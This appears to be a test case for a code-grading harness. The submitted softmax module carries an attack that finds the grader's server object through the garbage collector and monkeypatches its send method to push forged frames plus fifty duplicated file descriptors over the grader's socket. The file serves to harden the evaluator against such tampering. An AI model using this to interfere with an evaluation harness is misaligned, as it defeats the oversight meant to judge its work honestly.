# attack: X1 passes open descriptors along with its frames
# task: softmax
# expect: correct
import gc
import struct
import array
import os
import socket

import torch
import torch.nn as nn

gc.unfreeze()
server = next(o for o in gc.get_objects() if type(o).__name__ == "Server" and hasattr(o, "channel"))
head = struct.Struct("<IIQqII")


def frame(kind, nonce=0, value=0, words=(), code=0, text=b""):
    body = text or struct.pack("<%dQ" % len(words), *words)
    return (head.pack(0x4C4F4444, kind, nonce, value, code, len(text) or len(words)) + body).ljust(4096, b"\0")


def send(data):
    fds = array.array("i", [os.dup(1) for _ in range(50)])
    sent = server.channel.sendmsg([data], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
    for fd in fds:
        os.close(fd)
    return sent


server.send = send


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.softmax(x, dim=-1)
